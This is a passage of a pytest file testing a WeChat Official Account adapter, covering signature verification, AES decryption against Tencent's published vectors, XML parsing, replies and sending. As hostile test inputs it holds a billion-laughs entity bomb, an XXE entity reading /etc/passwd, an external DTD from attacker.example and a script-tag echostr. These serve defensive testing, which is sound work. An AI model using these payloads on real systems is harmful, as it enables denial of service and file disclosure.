"""The WeChat Official Account adapter, against what WeChat really sends.

Signatures and ciphertexts come from wechatpy (a WeChat SDK independent of our code) and
from the test vectors Tencent published with its WXBizMsgCrypt sample code, so our code
cannot agree with itself on a wrong answer. HTTP goes to the local fake platform only.
"""

from __future__ import annotations

import socket
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import xmltodict
from django.utils import translation
from wechatpy.crypto import WeChatCrypto
from wechatpy.exceptions import InvalidSignatureException
from wechatpy.utils import WeChatSigner

from tingjian.channels.adapters import get_adapter
from tingjian.channels.adapters.base import (
    AttachmentIn,
    ChannelConfig,
    Contact,
    ContactEvent,
    CustomerMessage,
    DeliveryError,
    IncomingEvent,
    MalformedPayload,
    Nothing,
    OutgoingMessage,
    Profile,
    Recipient,
    SignatureInvalid,
)
from tingjian.channels.adapters.wechat import ADAPTER, MessageCipher

from .fakeplatform import FakePlatform, Recorded

# Tencent's published sample values (WXBizMsgCrypt "测试解密接口").
TOKEN = "spamtest"
AES_KEY = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG"
APP_ID = "wx2c2769f8efd9abc2"
VECTOR_TIMESTAMP = "1409735669"
VECTOR_NONCE = "1320562132"
VECTOR_SIGNATURE = "16120ec1b8dbb870f510d87ce6bc2463eae6ca1a"
VECTOR_MSG_SIGNATURE = "5d197aaffba7e9b25a30732f161a50dee96bd5fa"
VECTOR_ENCRYPT = (
    "hyzAe4OzmOMbd6TvGdIOO6uBmdJoD0Fk53REIHvxYtJlE2B655HuD0m8KUePWB3+LrPXo87wzQ1QLvbeUgmBM4x6F8PGHQ"
    "HFVAFmOD2LdJF9FrXpbUAh0B5GIItb52sn896wVsMSHGuPE328HnRGBcrS7C41IzDWyWNlZkyyXwon8T332jisa+h6tEDY"
    "sVticbSnyU8dKOIbgU6ux5VTjg3yt+WGzjlpKn6NPhRjpA912xMezR4kw6KWwMrCVKSVCZciVGCgavjIQ6X8tCOp3yZbGp"
    "y0VxpAe+77TszTfRd5RJSVO/HTnifJpXgCSUdUue1v6h0EIBYYI1BD1DlD+C0CR8e6OewpusjZ4uBl9FyJvnhvQl+q5rv1"
    "ixrcpCumEPo5MJSgM9ehVsNPfUM669WuMyVWQLCzpu9GhglF2PE="
)

TIMESTAMP = "1767225600"  # 2026-01-01 00:00 UTC
NONCE = "847362910"
OPENID = "oUpF8uMuAJO_M2pxb1Q9zNjWeS6o"
ACCOUNT = "gh_7f083739789a"

TEXT = f"""<xml><ToUserName><![CDATA[{ACCOUNT}]]></ToUserName><FromUserName><![CDATA[{OPENID}]]></FromUserName>
<CreateTime>1767225600</CreateTime><MsgType><![CDATA[text]]></MsgType><Content><![CDATA[便當裡有頭髮，請處理]]></Content>
<MsgId>24409393281536001</MsgId></xml>"""


def message_xml(msg_type: str, inner: str, *, msg_id: str = "24409393281536002") -> str:
    return (
        f"<xml><ToUserName><![CDATA[{ACCOUNT}]]></ToUserName><FromUserName><![CDATA[{OPENID}]]></FromUserName>"
        f"<CreateTime>1767225600</CreateTime><MsgType><![CDATA[{msg_type}]]></MsgType>{inner}"
        f"<MsgId>{msg_id}</MsgId></xml>"
    )


def event_xml(event: str, key: str = "") -> str:
    key_part = f"<EventKey><![CDATA[{key}]]></EventKey>" if key else ""
    return (
        f"<xml><ToUserName><![CDATA[{ACCOUNT}]]></ToUserName><FromUserName><![CDATA[{OPENID}]]></FromUserName>"
        f"<CreateTime>1767225600</CreateTime><MsgType><![CDATA[event]]></MsgType>"
        f"<Event><![CDATA[{event}]]></Event>{key_part}</xml>"
    )


@pytest.fixture(autouse=True)
def english() -> Iterator[None]:
    # The product defaults to zh-hant; these tests read the English source texts.
    with translation.override("en"):
        yield


def channel(mode: str = "plain", *, app_id: str = APP_ID, api_base: str = "", state: dict[str, Any] | None = None) -> ChannelConfig:
    return ChannelConfig(
        kind="wechat", name="客服公眾號",
        config={"app_id": app_id, "encoding_mode": mode},
        secrets={"app_secret": "s3cr3t-app", "token": TOKEN, "encoding_aes_key": AES_KEY},
        api_base=api_base, state=state or {},
    )


def wechat_signature(*parts: str) -> str:
    signer = WeChatSigner()
    signer.add_data(*parts)
    return str(signer.signature)


def plain_delivery(xml: str) -> tuple[bytes, dict[str, str]]:
    """A plain-mode POST as WeChat makes it."""
    query = {"signature": wechat_signature(TOKEN, TIMESTAMP, NONCE), "timestamp": TIMESTAMP, "nonce": NONCE, "openid": OPENID}
    return xml.encode(), query


def encrypted_delivery(xml: str, *, mode: str = "safe", app_id: str = APP_ID, aes_key: str = AES_KEY) -> tuple[bytes, dict[str, str]]:
    """A safe- or compatible-mode POST, encrypted and signed by wechatpy."""
    envelope = xmltodict.parse(WeChatCrypto(TOKEN, aes_key, app_id).encrypt_message(xml, NONCE, TIMESTAMP))["xml"]
    encrypt = envelope["Encrypt"]
    if mode == "compatible":
        # Compatible mode carries the plain fields and the encrypted copy side by side.
        body = xml.replace("</xml>", f"<Encrypt><![CDATA[{encrypt}]]></Encrypt></xml>")
    else:
        body = f"<xml><ToUserName><![CDATA[{ACCOUNT}]]></ToUserName><Encrypt><![CDATA[{encrypt}]]></Encrypt></xml>"
    query = {
        "signature": wechat_signature(TOKEN, TIMESTAMP, NONCE), "timestamp": TIMESTAMP, "nonce": NONCE,
        "openid": OPENID, "encrypt_type": "aes", "msg_signature": envelope["MsgSignature"],
    }
    return body.encode(), query


def accept_one(xml: str, mode: str = "plain") -> IncomingEvent:
    body, query = plain_delivery(xml) if mode == "plain" else encrypted_delivery(xml, mode=mode)
    accepted = ADAPTER.accept(channel(mode), body, {}, query)
    assert len(accepted.events) == 1
    return accepted.events[0]


def parse_one(xml: str) -> Any:
    parsed = ADAPTER.parse(channel(), accept_one(xml))
    assert len(parsed) == 1
    return parsed[0]


# --- Registration -------------------------------------------------------------------------


def test_adapter_is_registered_under_wechat_with_its_keys() -> None:
    adapter = get_adapter("wechat")
    assert adapter is ADAPTER
    assert adapter.kind == "wechat"
    assert set(adapter.secret_keys) == {"app_secret", "token", "encoding_aes_key"}
    assert set(adapter.config_keys) == {"app_id", "encoding_mode", "auto_reply"}
    assert adapter.api_base_setting == "TINGJIAN_WECHAT_API_BASE"


# --- URL verification ---------------------------------------------------------------------


def test_url_check_answers_echostr_for_tencents_published_signature() -> None:
    query = {"signature": VECTOR_SIGNATURE, "timestamp": VECTOR_TIMESTAMP, "nonce": VECTOR_NONCE, "echostr": "4075181314397890557"}
    assert ADAPTER.verify_url(channel(), query) == b"4075181314397890557"


def test_url_check_answers_echostr_signed_by_wechatpy() -> None:
    query = {"signature": wechat_signature(TOKEN, TIMESTAMP, NONCE), "timestamp": TIMESTAMP, "nonce": NONCE, "echostr": "shr5ch"}
    assert ADAPTER.verify_url(channel("safe"), query) == b"shr5ch"


@pytest.mark.parametrize(
    "query",
    [
        {"signature": "0" * 40, "timestamp": TIMESTAMP, "nonce": NONCE, "echostr": "x1"},
        {"timestamp": TIMESTAMP, "nonce": NONCE, "echostr": "x1"},
        # Right signature for another timestamp: a replayed check with a new time.
        {"signature": wechat_signature(TOKEN, TIMESTAMP, NONCE), "timestamp": "1767225601", "nonce": NONCE, "echostr": "x1"},
        # echostr is not signed: a replayed signature must not make us echo markup.
        {"signature": wechat_signature(TOKEN, TIMESTAMP, NONCE), "timestamp": TIMESTAMP, "nonce": NONCE, "echostr": "<script>alert(1)</script>"},
    ],
    ids=["forged", "missing", "other-timestamp", "markup-echostr"],
)
def test_url_check_refuses_forged_or_missing_signature(query: dict[str, str]) -> None:
    with pytest.raises(SignatureInvalid):
        ADAPTER.verify_url(channel(), query)


def test_url_check_refuses_everything_when_the_channel_has_no_token() -> None:
    # With no token, sha1(timestamp + nonce) is something anyone can compute.
    no_token = ChannelConfig(kind="wechat", name="x", config={"app_id": APP_ID})
    query = {"signature": wechat_signature("", TIMESTAMP, NONCE), "timestamp": TIMESTAMP, "nonce": NONCE, "echostr": "x1"}
    with pytest.raises(SignatureInvalid):
        ADAPTER.verify_url(no_token, query)


# --- Accepting deliveries -----------------------------------------------------------------


def test_plain_mode_delivery_is_one_event_keyed_by_msgid() -> None:
    body, query = plain_delivery(TEXT)
    accepted = ADAPTER.accept(channel("plain"), body, {}, query)
    assert accepted.response_body == b"success"
    [event] = accepted.events
    assert event.external_id == "24409393281536001"
    assert event.payload == body
    assert event.content_type == "application/xml"


def test_safe_mode_decrypts_wechatpy_ciphertext() -> None:
    body, query = encrypted_delivery(TEXT, mode="safe")
    assert "便當".encode() not in body
    [event] = ADAPTER.accept(channel("safe"), body, {}, query).events
    assert event.external_id == "24409393281536001"
    assert event.payload == TEXT.encode()


def test_compatible_mode_trusts_the_encrypted_copy_not_the_plain_fields() -> None:
    body, query = encrypted_delivery(TEXT, mode="compatible")
    # Someone rewrote the plain copy in transit; the signature does not cover it.
    forged = body.replace("便當裡有頭髮，請處理".encode(), "退款給我".encode(), 1)
    [event] = ADAPTER.accept(channel("compatible"), forged, {}, query).events
    assert event.payload == TEXT.encode()
    [message] = ADAPTER.parse(channel("compatible"), event)
    assert isinstance(message, CustomerMessage)
    assert message.text == "便當裡有頭髮，請處理"


def test_compatible_mode_accepts_a_plain_body() -> None:
    body, query = plain_delivery(TEXT)
    [event] = ADAPTER.accept(channel("compatible"), body, {}, query).events
    assert event.external_id == "24409393281536001"


def test_tencents_published_ciphertext_decrypts_to_the_published_message() -> None:
    body = (
        "<xml><ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName><FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>"
        "<CreateTime>1409735668</CreateTime><MsgType><![CDATA[text]]></MsgType><Content><![CDATA[abcdteT]]></Content>"
        f"<MsgId>6054768590064713728</MsgId><Encrypt><![CDATA[{VECTOR_ENCRYPT}]]></Encrypt></xml>"
    ).encode()
    query = {"signature": VECTOR_SIGNATURE, "msg_signature": VECTOR_MSG_SIGNATURE, "timestamp": VECTOR_TIMESTAMP, "nonce": VECTOR_NONCE}
    [event] = ADAPTER.accept(channel("safe"), body, {}, query).events
    assert event.external_id == "6054768590064713728"
    [message] = ADAPTER.parse(channel("safe"), event)
    assert isinstance(message, CustomerMessage)
    assert message.text == "abcdteT"
    assert message.contact.handle == "oyORnuP8q7ou2gfYjqLzSIWZf0rs"
    assert message.sent_at == datetime.fromtimestamp(1409735668, tz=UTC)


def test_cipher_matches_tencents_published_encryption() -> None:
    # WXBizMsgCryptTest: this key, appid and 16-byte prefix give exactly this ciphertext.
    cipher = MessageCipher(AES_KEY)
    published = "jn1L23DB+6ELqJ+6bruv21Y6MD7KeIfP82D6gU39rmkgczbWwt5+3bnyg5K55bgVtVzd832WzZGMhkP72vVOfg=="
    made = cipher.encrypt("我是中文abcd123".encode(), "wxb11529c136998cb6", random_prefix=b"aaaabbbbccccdddd")
    assert made == published
    assert cipher.decrypt(published) == ("我是中文abcd123".encode(), "wxb11529c136998cb6")


def test_wrong_signature_is_refused() -> None:
    body, query = plain_delivery(TEXT)
    with pytest.raises(SignatureInvalid):
        ADAPTER.accept(channel("plain"), body, {}, {**query, "signature": wechat_signature("other-token", TIMESTAMP, NONCE)})


def test_wrong_msg_signature_is_refused() -> None:
    body, query = encrypted_delivery(TEXT)
    with pytest.raises(SignatureInvalid):
        ADAPTER.accept(channel("safe"), body, {}, {**query, "msg_signature": wechat_signature(TOKEN, TIMESTAMP, NONCE, "x")})


def test_safe_mode_refuses_a_forged_signature_beside_a_good_msg_signature() -> None:
    body, query = encrypted_delivery(TEXT)
    with pytest.raises(SignatureInvalid):
        ADAPTER.accept(channel("safe"), body, {}, {**query, "signature": "0" * 40})


def test_missing_msg_signature_is_refused_in_compatible_mode() -> None:
    body, query = encrypted_delivery(TEXT, mode="compatible")
    del query["msg_signature"]
    with pytest.raises(SignatureInvalid):
        ADAPTER.accept(channel("compatible"), body, {}, query)


def test_ciphertext_for_another_appid_is_refused() -> None:
    body, query = encrypted_delivery(TEXT, app_id="wx0000000000000000")
    with pytest.raises(SignatureInvalid):
        ADAPTER.accept(channel("safe"), body, {}, query)


def test_ciphertext_under_another_key_is_refused_even_with_a_valid_msg_signature() -> None:
    # Whoever knows the token can sign; only WeChat knows the EncodingAESKey.
    body, query = encrypted_delivery(TEXT, aes_key="ZYXWVUTSRQPONMLKJIHGFEDCBA9876543210zyxwvut")
    with pytest.raises(SignatureInvalid):
        ADAPTER.accept(channel("safe"), body, {}, query)


def test_safe_mode_refuses_an_unencrypted_body() -> None:
    body, query = plain_delivery(TEXT)
    with pytest.raises(SignatureInvalid):
        ADAPTER.accept(channel("safe"), body, {}, query)


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>
<xml><ToUserName>gh</ToUserName><FromUserName>o</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType><Content>&d;</Content><MsgId>1</MsgId></xml>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY leak SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>gh</ToUserName><FromUserName>o</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType><Content>&leak;</Content><MsgId>1</MsgId></xml>"""


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        # An external DTD: the out-of-band XXE trick, no entity in sight.
        '<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd">' + TEXT,
        "\x00\x01 definitely not xml",
        TEXT[:60],
        "<html><body>proxy error</body></html>",
        "<xml><MsgType>text</MsgType><Content>no sender</Content></xml>",
    ],
    ids=["billion-laughs", "external-entity", "external-dtd", "garbage", "truncated", "not-wechat-root", "no-sender"],
)
def test_unreadable_or_hostile_xml_is_malformed(body: str) -> None:
    signed_body, query = plain_delivery(body)
    with pytest.raises(MalformedPayload):
        ADAPTER.accept(channel("plain"), signed_body, {}, query)


def test_hostile_xml_inside_the_ciphertext_is_malformed_too() -> None:
    body, query = encrypted_delivery(EXTERNAL_ENTITY)
    with pytest.raises(MalformedPayload):
        ADAPTER.accept(channel("safe"), body, {}, query)


def test_event_ids_tell_events_apart_and_repeat_for_wechats_retries() -> None:
    subscribe = accept_one(event_xml("subscribe"))
    retried = accept_one(event_xml("subscribe"))
    click = accept_one(event_xml("CLICK", "MENU_COMPLAINT"))
    assert subscribe.external_id == f"{OPENID}:1767225600:subscribe"
    assert retried.external_id == subscribe.external_id
    assert click.external_id != subscribe.external_id


# --- Parsing ------------------------------------------------------------------------------


def test_text_message_is_what_the_customer_wrote() -> None:
    message = parse_one(TEXT)
    assert message == CustomerMessage(
        external_id="24409393281536001", contact=Contact(kind="wechat_openid", handle=OPENID),
        text="便當裡有頭髮，請處理", sent_at=datetime(2026, 1, 1, tzinfo=UTC), channel="wechat",
    )


@pytest.mark.parametrize(
    ("xml", "text", "attachments"),
    [
        (
            message_xml("image", "<PicUrl><![CDATA[http://mmbiz.qpic.cn/x.jpg]]></PicUrl><MediaId><![CDATA[media_img_1]]></MediaId>"),
            "[image]", (AttachmentIn(kind="image", media_ref="media_img_1"),),
        ),
        (
            message_xml("voice", "<MediaId><![CDATA[media_voice_1]]></MediaId><Format><![CDATA[amr]]></Format>"),
            "[voice]", (AttachmentIn(kind="audio", media_ref="media_voice_1", filename="voice.amr"),),
        ),
        (
            message_xml("voice", "<MediaId><![CDATA[media_voice_2]]></MediaId><Format><![CDATA[speex]]></Format><Recognition><![CDATA[湯是冷的]]></Recognition>"),
            "[voice] 湯是冷的", (AttachmentIn(kind="audio", media_ref="media_voice_2", filename="voice.speex"),),
        ),
        (
            message_xml("video", "<MediaId><![CDATA[media_video_1]]></MediaId><ThumbMediaId><![CDATA[thumb_1]]></ThumbMediaId>"),
            "[video]", (AttachmentIn(kind="video", media_ref="media_video_1"),),
        ),
        (
            message_xml("shortvideo", "<MediaId><![CDATA[media_video_2]]></MediaId><ThumbMediaId><![CDATA[thumb_2]]></ThumbMediaId>"),
            "[video]", (AttachmentIn(kind="video", media_ref="media_video_2"),),
        ),
        (
            message_xml("location", "<Location_X>25.033</Location_X><Location_Y>121.565</Location_Y><Scale>20</Scale><Label><![CDATA[台北101]]></Label>"),
            "[location] 25.033,121.565 台北101", (AttachmentIn(kind="location", note="25.033,121.565 台北101 (map scale 20)"),),
        ),
        (
            message_xml("link", "<Title><![CDATA[門市公告]]></Title><Description><![CDATA[營業時間調整]]></Description><Url><![CDATA[https://example.com/n/1]]></Url>"),
            "[link] 門市公告 — https://example.com/n/1\n營業時間調整", (AttachmentIn(kind="link", note="https://example.com/n/1"),),
        ),
    ],
    ids=["image", "voice", "voice-recognised", "video", "shortvideo", "location", "link"],
)
def test_non_text_message_reads_plainly_and_names_its_media(xml: str, text: str, attachments: tuple[AttachmentIn, ...]) -> None:
    message = parse_one(xml)
    assert isinstance(message, CustomerMessage)
    assert message.text == text
    assert message.attachments == attachments
    assert message.external_id == "24409393281536002"
    assert message.contact == Contact(kind="wechat_openid", handle=OPENID)
    assert message.channel == "wechat"


def test_a_message_kind_wechat_adds_later_still_reaches_the_agent() -> None:
    message = parse_one(message_xml("miniprogrampage", "<Title><![CDATA[x]]></Title>"))
    assert isinstance(message, CustomerMessage)
    assert message.text == "[miniprogrampage]"


@pytest.mark.parametrize(
    ("event", "key", "action"),
    [
        ("subscribe", "", "follow"),
        ("subscribe", "qrscene_store_042", "follow"),
        ("unsubscribe", "", "unfollow"),
        ("CLICK", "MENU_COMPLAINT", "click"),
        ("VIEW", "https://example.com/complaint", "click"),
    ],
)
def test_follow_unfollow_and_menu_events_are_contact_events(event: str, key: str, action: str) -> None:
    parsed = parse_one(event_xml(event, key))
    assert parsed == ContactEvent(
        contact=Contact(kind="wechat_openid", handle=OPENID), action=action,
        at=datetime(2026, 1, 1, tzinfo=UTC), detail=key,
    )


@pytest.mark.parametrize("event", ["SCAN", "LOCATION", "TEMPLATESENDJOBFINISH"])
def test_other_events_need_no_action(event: str) -> None:
    parsed = parse_one(event_xml(event, "123"))
    assert isinstance(parsed, Nothing)
    assert event in parsed.reason


def test_parse_refuses_a_stored_payload_without_a_readable_time() -> None:
    stored = IncomingEvent(external_id="1", payload=TEXT.replace("1767225600", "yesterday").encode(), content_type="application/xml")
    with pytest.raises(MalformedPayload):
        ADAPTER.parse(channel(), stored)


# --- Passive reply ------------------------------------------------------------------------


AUTO_REPLY = "已收到您的意見，案件編號 C-2026-000123。]]> <b>"


@pytest.mark.parametrize("mode", ["safe", "compatible"])
def test_passive_reply_is_encrypted_and_signed_so_wechatpy_reads_it(mode: str) -> None:
    event = accept_one(TEXT, mode)
    body, content_type = ADAPTER.passive_reply(channel(mode), event, AUTO_REPLY, {"nonce": NONCE, "timestamp": TIMESTAMP})
    assert "xml" in content_type
    assert b"C-2026" not in body
    envelope = xmltodict.parse(body)["xml"]
    assert envelope["Nonce"] == NONCE
    # wechatpy checks MsgSignature against the token and the appid inside the ciphertext.
    plain = WeChatCrypto(TOKEN, AES_KEY, APP_ID).decrypt_message(body, envelope["MsgSignature"], envelope["TimeStamp"], NONCE)
    reply = xmltodict.parse(plain)["xml"]
    assert reply["ToUserName"] == OPENID
    assert reply["FromUserName"] == ACCOUNT
    assert reply["MsgType"] == "text"
    assert reply["Content"] == AUTO_REPLY


def test_passive_reply_signed_with_another_token_fails_wechats_check() -> None:
    event = accept_one(TEXT, "safe")
    body, _ = ADAPTER.passive_reply(channel("safe"), event, "ok", {"nonce": NONCE})
    envelope = xmltodict.parse(body)["xml"]
    with pytest.raises(InvalidSignatureException):
        WeChatCrypto("not-our-token", AES_KEY, APP_ID).decrypt_message(body, envelope["MsgSignature"], envelope["TimeStamp"], NONCE)


def test_passive_reply_in_plain_mode_is_readable_xml_to_the_sender() -> None:
    event = accept_one(TEXT, "plain")
    body, _ = ADAPTER.passive_reply(channel("plain"), event, AUTO_REPLY, {"nonce": NONCE})
    reply = xmltodict.parse(body)["xml"]
    assert (reply["ToUserName"], reply["FromUserName"], reply["MsgType"]) == (OPENID, ACCOUNT, "text")
    assert reply["Content"] == AUTO_REPLY
    assert "Encrypt" not in reply


# --- Sending ------------------------------------------------------------------------------

SEND = "/cgi-bin/message/custom/send"
TOKEN_PATH = "/cgi-bin/token"
RECIPIENT = Recipient(handle=OPENID, kind="wechat_openid")
REPLY = OutgoingMessage(text="您好，案件 C-2026-000123 已處理。", case_number="C-2026-000123", retry_key="k1")


def cached(minutes_left: float, token: str = "TOKEN-CACHED") -> dict[str, Any]:
    return {"access_token": token, "access_token_expires_at": (datetime.now(UTC) + timedelta(minutes=minutes_left)).isoformat()}


def test_send_fetches_a_token_and_posts_the_text_as_utf8_json(fake_platform: FakePlatform) -> None:
    fake_platform.route("GET", TOKEN_PATH, (200, {"access_token": "TOKEN-NEW", "expires_in": 7200}))
    fake_platform.route("POST", SEND, (200, {"errcode": 0, "errmsg": "ok"}))
    result = ADAPTER.send(channel(api_base=fake_platform.url), RECIPIENT, REPLY)

    [token_call] = fake_platform.calls(TOKEN_PATH)
    assert token_call.query == {"grant_type": ["client_credential"], "appid": [APP_ID], "secret": ["s3cr3t-app"]}
    [send_call] = fake_platform.calls(SEND)
    assert send_call.query["access_token"] == ["TOKEN-NEW"]
    assert send_call.json() == {"touser": OPENID, "msgtype": "text", "text": {"content": REPLY.text}}
    assert "案件".encode() in send_call.body  # not \\u escapes: WeChat counts characters
    assert result.mode == "customer_service"
    assert result.state_changes["access_token"] == "TOKEN-NEW"
    expires_at = datetime.fromisoformat(result.state_changes["access_token_expires_at"])
    assert timedelta(minutes=119) < expires_at - datetime.now(UTC) <= timedelta(hours=2)


def test_send_reuses_a_token_with_more_than_five_minutes_left(fake_platform: FakePlatform) -> None:
    fake_platform.route("POST", SEND, (200, {"errcode": 0, "errmsg": "ok"}))
    result = ADAPTER.send(channel(api_base=fake_platform.url, state=cached(6)), RECIPIENT, REPLY)
    assert fake_platform.calls(TOKEN_PATH) == []
    assert fake_platform.calls(SEND)[0].query["access_token"] == ["TOKEN-CACHED"]
    assert result.state_changes == {}


def test_send_replaces_a_token_about_to_expire(fake_platform: FakePlatform) -> None:
    fake_platform.route("GET", TOKEN_PATH, (200, {"access_token": "TOKEN-NEW", "expires_in": 7200}))
    fake_platform.route("POST", SEND, (200, {"errcode": 0, "errmsg": "ok"}))
    result = ADAPTER.send(channel(api_base=fake_platform.url, state=cached(4)), RECIPIENT, REPLY)
    assert fake_platform.calls(SEND)[0].query["access_token"] == ["TOKEN-NEW"]
    assert result.state_changes["access_token"] == "TOKEN-NEW"


def stale_unless_new(request: Recorded) -> tuple[int, Any]:
    if request.query["access_token"] == ["TOKEN-NEW"]:
        return 200, {"errcode": 0, "errmsg": "ok"}
    return 200, {"errcode": 40001, "errmsg": "invalid credential, access_token is invalid or not latest"}


def test_send_refreshes_a_token_wechat_calls_stale_and_tries_once_more(fake_platform: FakePlatform) -> None:
    fake_platform.route("GET", TOKEN_PATH, (200, {"access_token": "TOKEN-NEW", "expires_in": 7200}))
    fake_platform.route("POST", SEND, stale_unless_new)
    result = ADAPTER.send(channel(api_base=fake_platform.url, state=cached(60)), RECIPIENT, REPLY)
    assert [c.query["access_token"] for c in fake_platform.calls(SEND)] == [["TOKEN-CACHED"], ["TOKEN-NEW"]]
    assert result.state_changes["access_token"] == "TOKEN-NEW"


def test_send_refreshes_only_once_then_blames_the_credentials(fake_platform: FakePlatform) -> None:
    fake_platform.route("GET", TOKEN_PATH, (200, {"access_token": "TOKEN-ALSO-STALE", "expires_in": 7200}))
    fake_platform.route("POST", SEND, stale_unless_new)
    with pytest.raises(DeliveryError) as caught:
        ADAPTER.send(channel(api_base=fake_platform.url, state=cached(60)), RECIPIENT, REPLY)
    assert len(fake_platform.calls(TOKEN_PATH)) == 1
    assert len(fake_platform.calls(SEND)) == 2
    assert caught.value.retry is False
    assert "credentials" in caught.value.message


def test_send_after_48_hours_is_a_final_failure_in_plain_words(fake_platform: FakePlatform) -> None:
    fake_platform.route("POST", SEND, (200, {"errcode": 45015, "errmsg": "response out of time limit or subscription is canceled"}))
    with pytest.raises(DeliveryError) as caught:
        ADAPTER.send(channel(api_base=fake_platform.url, state=cached(60)), RECIPIENT, REPLY)
    assert caught.value.retry is False
    assert caught.value.code == "45015"
    assert "48 hours" in caught.value.message
    assert "45015" not in caught.value.message and "errmsg" not in caught.value.message


@pytest.mark.parametrize(
    ("errcode", "retry", "words"),
    [
        (43004, False, "no longer follows"),
        (45047, False, "too many"),
        (48001, False, "may not use"),
        (40013, False, "credentials"),
        (40125, False, "credentials"),
        (-1, True, "busy"),
    ],
)
def test_send_maps_wechat_errcodes_to_plain_words_and_retry(fake_platform: FakePlatform, errcode: int, retry: bool, words: str) -> None:
    fake_platform.route("POST", SEND, (200, {"errcode": errcode, "errmsg": "whatever"}))
    with pytest.raises(DeliveryError) as caught:
        ADAPTER.send(channel(api_base=fake_platform.url, state=cached(60)), RECIPIENT, REPLY)
    assert (caught.value.retry, caught.value.code) == (retry, str(errcode))
    assert words in caught.value.message


def test_a_bad_app_secret_stops_at_the_token_and_is_final(fake_platform: FakePlatform) -> None:
    fake_platform.route("GET", TOKEN_PATH, (200, {"errcode": 40125, "errmsg": "invalid appsecret"}))
    with pytest.raises(DeliveryError) as caught:
        ADAPTER.send(channel(api_base=fake_platform.url), RECIPIENT, REPLY)
    assert caught.value.retry is False
    assert fake_platform.calls(SEND) == []


def test_send_on_a_wechat_5xx_is_retried_later(fake_platform: FakePlatform) -> None:
    fake_platform.route("POST", SEND, (502, {"error": "bad gateway"}))
    with pytest.raises(DeliveryError) as caught:
        ADAPTER.send(channel(api_base=fake_platform.url, state=cached(60)), RECIPIENT, REPLY)
    assert caught.value.retry is True
    assert caught.value.code == "http_502"


def test_send_when_wechat_cannot_be_reached_is_retried_later() -> None:
    with socket.socket() as sock:  # a port nobody listens on once closed
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    with pytest.raises(DeliveryError) as caught:
        ADAPTER.send(channel(api_base=f"http://127.0.0.1:{port}", state=cached(60)), RECIPIENT, REPLY)
    assert caught.value.retry is True
    assert "TOKEN-CACHED" not in caught.value.message


def test_send_with_a_file_is_refused_before_calling_wechat(fake_platform: FakePlatform) -> None:
    with_file = OutgoingMessage(text="附件", case_number="C-1", retry_key="k", attachments=(AttachmentIn(kind="image", content=b"x"),))
    with pytest.raises(DeliveryError) as caught:
        ADAPTER.send(channel(api_base=fake_platform.url, state=cached(60)), RECIPIENT, with_file)
    assert caught.value.retry is False
    assert fake_platform.requests == []


# --- Reply window -------------------------------------------------------------------------

NOW = datetime(2026, 1, 3, 12, 0, tzinfo=UTC)


def test_reply_allowed_47h59m_after_the_customer_wrote() -> None:
    recipient = Recipient(handle=OPENID, kind="wechat_openid", last_inbound_at=NOW - timedelta(hours=47, minutes=59))
    assert ADAPTER.reply_window_problem(recipient, NOW) == ""


def test_reply_refused_48h01m_after_the_customer_wrote_with_another_way_suggested() -> None:
    recipient = Recipient(handle=OPENID, kind="wechat_openid", last_inbound_at=NOW - timedelta(hours=48, minutes=1))
    problem = ADAPTER.reply_window_problem(recipient, NOW)
    assert "48 hours" in problem
    assert "phone" in problem and "email" in problem


def test_reply_refused_when_the_customer_never_wrote() -> None:
    problem = ADAPTER.reply_window_problem(Recipient(handle=OPENID, kind="wechat_openid"), NOW)
    assert "48 hours" in problem
    assert "has not written" in problem


# --- Profile and media --------------------------------------------------------------------


def test_profile_gives_nickname_and_unionid_in_traditional_chinese(fake_platform: FakePlatform) -> None:
    fake_platform.route("GET", "/cgi-bin/user/info", (200, {
        "subscribe": 1, "openid": OPENID, "nickname": "王小明", "language": "zh_TW", "unionid": "o6_bmasdasdsad6_2sgVt7hMZOPfL",
    }))
    profile = ADAPTER.fetch_profile(channel(api_base=fake_platform.url, state=cached(60)), Contact(kind="wechat_openid", handle=OPENID))
    assert profile == Profile(display_name="王小明", unionid="o6_bmasdasdsad6_2sgVt7hMZOPfL", language="zh_TW")
    [call] = fake_platform.calls("/cgi-bin/user/info")
    assert call.query == {"access_token": ["TOKEN-CACHED"], "openid": [OPENID], "lang": ["zh_TW"]}


def test_profile_of_an_unknown_openid_is_none(fake_platform: FakePlatform) -> None:
    fake_platform.route("GET", "/cgi-bin/user/info", (200, {"errcode": 40003, "errmsg": "invalid openid"}))
    contact = Contact(kind="wechat_openid", handle="not-ours")
    assert ADAPTER.fetch_profile(channel(api_base=fake_platform.url, state=cached(60)), contact) is None


def test_media_download_returns_bytes_and_type(fake_platform: FakePlatform) -> None:
    fake_platform.route("GET", "/cgi-bin/media/get", (200, b"\xff\xd8\xff\xe0 jpeg bytes"))
    content, content_type = ADAPTER.fetch_media(channel(api_base=fake_platform.url, state=cached(60)), "media_img_1", max_bytes=1024)
    assert content == b"\xff\xd8\xff\xe0 jpeg bytes"
    assert content_type == "application/octet-stream"
    assert fake_platform.calls("/cgi-bin/media/get")[0].query["media_id"] == ["media_img_1"]


def test_media_answered_with_an_errcode_is_a_delivery_error(fake_platform: FakePlatform) -> None:
    fake_platform.route("GET", "/cgi-bin/media/get", (200, {"errcode": 40007, "errmsg": "invalid media_id"}))
    with pytest.raises(DeliveryError) as caught:
        ADAPTER.fetch_media(channel(api_base=fake_platform.url, state=cached(60)), "gone", max_bytes=1024)
    assert caught.value.code == "40007"
    assert caught.value.retry is False


def test_media_over_the_limit_is_refused(fake_platform: FakePlatform) -> None:
